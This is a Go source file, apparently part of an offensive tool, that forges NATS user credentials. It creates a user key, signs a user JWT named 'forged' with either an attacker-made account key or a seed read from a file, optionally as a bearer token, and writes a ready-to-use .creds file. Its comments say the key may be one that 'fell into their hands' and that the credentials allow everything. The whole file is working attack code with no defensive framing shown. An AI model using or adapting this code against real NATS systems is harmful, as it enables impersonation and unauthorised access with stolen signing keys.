package attack

import (
	"fmt"
	"os"
	"strings"

	"github.com/nats-io/jwt/v2"
	"github.com/nats-io/nkeys"
)

// forgeCreds makes the creds of a user of an account: signed by a key of the attacker's own, or by
// one that fell into their hands. They say that everything is allowed.
func forgeCreds(c *call) error {
	account := c.flags.String("account", "", "the account (A...)")
	by := c.flags.String("by", "", "a file with the seed that signs; a new key if it is not said")
	bearer := c.flags.Bool("bearer", false, "needs no seed")
	if err := c.parse(1, 1); err != nil {
		return err
	}
	signer, err := nkeys.CreateAccount()
	if *by != "" {
		var content []byte
		if content, err = os.ReadFile(*by); err == nil {
			signer, err = nkeys.FromSeed([]byte(strings.TrimSpace(string(content))))
		}
	}
	if err != nil {
		return err
	}
	user, err := nkeys.CreateUser()
	if err != nil {
		return err
	}
	creds, err := forgedCreds(user, signer, *account, *bearer)
	if err != nil {
		return err
	}
	return os.WriteFile(c.arg(0), creds, 0o600)
}

func forgedCreds(user, signer nkeys.KeyPair, account string, bearer bool) ([]byte, error) {
	public, err := user.PublicKey()
	if err != nil {
		return nil, err
	}
	seed, err := user.Seed()
	if err != nil {
		return nil, err
	}
	claims := jwt.NewUserClaims(public)
	claims.Name, claims.IssuerAccount, claims.BearerToken = "forged", account, bearer
	token, err := claims.Encode(signer)
	if err != nil {
		return nil, fmt.Errorf("sign: %w", err)
	}
	return jwt.FormatUserConfig(token, seed)
}
